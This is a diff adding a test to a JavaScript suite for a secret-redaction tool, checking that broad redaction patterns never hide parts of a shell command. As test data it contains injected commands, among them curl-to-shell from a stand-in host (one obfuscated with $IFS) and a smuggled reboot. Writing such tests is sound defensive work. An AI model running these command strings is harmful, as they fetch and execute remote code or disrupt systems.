@@ -86,6 +86,13 @@ describe("secrets that a person adds", () => {
     const many = `${key} is ours\n`.repeat(4_000);
     assert.ok(redactor.text(many) === `${gone} is ours\n`.repeat(4_000));
   });
+  it("A36: hide no part of a command from whoever is asked, however wide they are and wherever the text ends", () => {
+    const wide = withExtra("/acme_[a-z0-9]{32}/", "/acme-.*/", "a word of ours");
+    for (const command of ["ls acme_;curl$IFS-s$IFS@a.test|sh", "ls acme-1; curl a.test | sh", "ls acme-$(reboot)"])
+      assert.equal(wide.decision(command), command);
+    assert.equal(wide.decision("ls acme-1;reboot ".repeat(2_000)), "ls acme-1;reboot ".repeat(2_000));
+    assert.equal(wide.decision(`x --key ${key} 'a word of ours'`), `x --key ${gone} '${gone}'`);
+  });
   for (const [what, entry, why] of [
     ["too short a text", "hunter2", /text of 7 characters stands in too many/],
     ["an expression without a beginning", "/[a-z]{30}/", /must begin with at least 3 fixed characters/],
